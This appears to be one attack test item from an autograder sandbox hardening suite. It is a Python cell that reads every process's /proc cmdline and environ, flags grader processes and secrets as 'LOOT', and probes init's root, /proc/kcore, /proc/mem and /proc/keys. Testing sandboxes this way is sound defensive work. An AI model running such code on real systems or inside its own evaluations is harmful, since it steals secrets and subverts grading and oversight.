# id: read_proc_of_everyone
# kind: attack
# category: read-process
# form: cell
# begins with: part
# goal: environment, command line, memory, root and descriptors of every process in sight
# success looks like: anything of a process that is not the submission's own
# required score: 2 of 10
import os, glob
own = os.getpgid(0)
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.split("/")[2])
    try:
        text = open(path + "/cmdline").read() + open(path + "/environ").read()
    except OSError:
        continue
    if "autograder.judge" in text or "pytest" in text or "AUTOGRADER" + "_SECRET" in text or "grade" + "\0ps2" in text:
        print("LOOT process", pid)
for path in ("/proc/1/root/home", "/proc/1/cwd", "/proc/self/root/root", "/proc/1/mem", "/proc/kcore", "/proc/keys"):
    try:
        os.listdir(path) if not path.endswith(("mem", "kcore", "keys")) else open(path, "rb").read(1)
    except OSError:
        continue
    print("found", path)
